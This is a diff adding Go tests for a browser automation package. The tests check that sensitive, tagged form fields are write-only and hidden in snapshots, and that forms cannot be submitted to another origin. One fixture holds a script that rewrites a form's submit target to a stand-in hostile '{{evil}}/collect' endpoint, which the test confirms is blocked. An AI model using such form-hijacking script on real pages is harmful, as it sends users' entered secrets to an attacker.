@@ -1,0 +1,149 @@
+package browser
+
+import (
+	"errors"
+	"testing"
+)
+
+func TestThreatTaggedNodeIsWriteOnly(t *testing.T) {
+	s := show(t, `<form><input name=f type=number step=1 required max=5 aria-label=Field><input name=other><button type=button>Off</button></form>`)
+	field, other := s.named("f").UID, s.named("other").UID
+	if got := s.write(field, "41"); got != OutcomeOK {
+		t.Fatalf("Write = %q", got)
+	}
+	for _, text := range []string{"1", ""} {
+		if _, err := s.tab.Type(t.Context(), field, text, TypeOptions{}); !errors.Is(err, ErrTagged) {
+			t.Errorf("Type(%q) = %v, want ErrTagged", text, err)
+		}
+	}
+	if _, err := s.tab.Click(t.Context(), field); err != nil { // moves the focus there, and does no more
+		t.Fatal(err)
+	}
+	if got := s.eval(`document.activeElement.name`); got != `"f"` {
+		t.Errorf("after Click the focus is in %s, want f", got)
+	}
+	for _, key := range []string{"ArrowUp", "ArrowDown", "PageUp", "Home", "Backspace", "Delete", "Space"} {
+		if _, err := s.tab.Press(t.Context(), key); !errors.Is(err, ErrTagged) {
+			t.Errorf("Press(%s) = %v, want ErrTagged", key, err)
+		}
+	}
+	if got := s.valueOf("f"); got != `"41"` {
+		t.Errorf("the field holds %s, want what was written", got)
+	}
+	if it := s.named("f"); it.Value.S != "" || it.Validation.S != "" || it.Invalid || it.Tagged != "REDACTED:test" {
+		t.Errorf("a snapshot tells %+v", it)
+	}
+	for _, key := range []string{"Escape", "Tab"} {
+		if _, err := s.tab.Press(t.Context(), key); err != nil {
+			t.Errorf("Press(%s) = %v", key, err)
+		}
+	}
+	if _, err := s.tab.Type(t.Context(), other, "fine", TypeOptions{}); err != nil {
+		t.Errorf("Type into another field = %v", err)
+	}
+	if _, err := s.tab.Type(t.Context(), field, "3", TypeOptions{Clear: true}); err != nil {
+		t.Errorf("Type with Clear = %v", err)
+	}
+	if it := s.named("f"); it.Value.S != "" || it.Tagged == "" {
+		t.Errorf("what stands in it then is told as %+v, want it withheld", it)
+	}
+	if err := s.tab.Clear(t.Context(), field); err != nil {
+		t.Errorf("Clear = %v", err)
+	}
+	if it := s.named("f"); it.Tagged != "" || it.Value.S != "" {
+		t.Errorf("an emptied field is told as %+v, want it empty", it)
+	}
+}
+
+func TestThreatTaggedChoiceShowsOnlyItsOptions(t *testing.T) {
+	s := show(t, `<select name=m><option>1<option>2<option>3</select><input type=radio name=r value=a><input type=checkbox name=c checked>
+<label>Box<input type=checkbox name=l></label>`)
+	for _, name := range []string{"m", "r", "c", "l"} {
+		if err := s.tab.Tag(t.Context(), s.named(name).UID, "REDACTED:x"); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if got := s.write(s.named("m").UID, "2"); got != OutcomeOK {
+		t.Fatalf("Write = %q", got)
+	}
+	m := s.named("m")
+	if len(m.Options) != 3 || m.Value.S != "" {
+		t.Errorf("a tagged select is told as %+v", m)
+	}
+	for _, o := range m.Options {
+		if o.Selected || o.Label.S == "" {
+			t.Errorf("its option is told as %+v, want a label and no state", o)
+		}
+	}
+	for _, name := range []string{"r", "c"} {
+		if it := s.named(name); it.Checked != nil {
+			t.Errorf("tagged %s tells whether it is checked", name)
+		}
+		if _, err := s.tab.Click(t.Context(), s.named(name).UID); !errors.Is(err, ErrTagged) {
+			t.Errorf("Click(%s) = %v, want ErrTagged", name, err)
+		}
+	}
+	if _, err := s.tab.SelectOption(t.Context(), m.UID, []string{"1"}); !errors.Is(err, ErrTagged) {
+		t.Errorf("SelectOption = %v, want ErrTagged", err)
+	}
+}
+
+func TestTagFollowsAFieldThatIsRenderedAgain(t *testing.T) {
+	s := show(t, `<form><input name=f></form>`)
+	if got := s.write(s.named("f").UID, "hunter2hunter2"); got != OutcomeOK {
+		t.Fatalf("Write = %q", got)
+	}
+	s.eval(`document.querySelector('form').innerHTML = '<input name=f value=hunter2hunter2><input name=g value=hunter2hunter2>'`)
+	if it := s.named("f"); it.Tagged == "" || it.Value.S != "" {
+		t.Errorf("the same field, made anew, is told as %+v, want it tagged", it)
+	}
+	if it := s.named("g"); it.Tagged != "" || it.Value.S == "" {
+		t.Errorf("another field is told as %+v: tags follow names, never values", it)
+	}
+}
+
+func TestTagAllTagsWhatComesLater(t *testing.T) {
+	s := show(t, `<input name=a value=1><div id=d contenteditable>2</div><input type=checkbox name=c>`)
+	doc := s.tab.Document()
+	if err := s.tab.TagAll(t.Context(), doc, "REDACTED:x"); err != nil {
+		t.Fatal(err)
+	}
+	s.eval(`(document.body.insertAdjacentHTML('beforeend', '<textarea name=later>3</textarea>'), 1)`)
+	for _, name := range []string{"a", "d", "later"} {
+		if it := s.named(name); it.Tagged != "REDACTED:x" || it.Value.S != "" {
+			t.Errorf("%s is told as %+v, want it tagged", name, it)
+		}
+	}
+	if it := s.named("c"); it.Checked == nil {
+		t.Error("a check box takes no text and is not tagged")
+	}
+	if _, err := s.tab.Reload(t.Context(), NavigateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.tab.TagAll(t.Context(), doc, "REDACTED:x"); !errors.Is(err, ErrStale) {
+		t.Errorf("TagAll of the document before = %v, want ErrStale", err)
+	}
+}
+
+func TestThreatFormIsNotSentElsewhere(t *testing.T) {
+	s := show(t, `<form action="/submit"><input name=f><input name=g><button>Send</button><button type=button id=inject>Inject</button></form>
+<script>inject.onclick = () => document.forms[0].querySelector('button').setAttribute('formaction', '{{evil}}/collect')</script>`)
+	if got := s.write(s.named("f").UID, "hunter2hunter2"); got != OutcomeOK {
+		t.Fatalf("Write = %q", got)
+	}
+	if _, err := s.tab.Click(t.Context(), s.saying("Inject").UID); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.tab.Click(t.Context(), s.saying("Send").UID); !errors.Is(err, ErrSubmitOrigin) {
+		t.Errorf("Click = %v, want ErrSubmitOrigin", err)
+	}
+	if _, err := s.tab.Type(t.Context(), s.named("g").UID, "x", TypeOptions{Submit: true}); !errors.Is(err, ErrSubmitOrigin) {
+		t.Errorf("Type with Submit = %v, want ErrSubmitOrigin", err)
+	}
+	if _, err := s.tab.Press(t.Context(), "Enter"); !errors.Is(err, ErrSubmitOrigin) {
+		t.Errorf("Press(Enter) = %v, want ErrSubmitOrigin", err)
+	}
+	if s.site.Received(s.site.Evil, "hunter2hunter2") {
+		t.Error("the hostile origin received the value")
+	}
+}
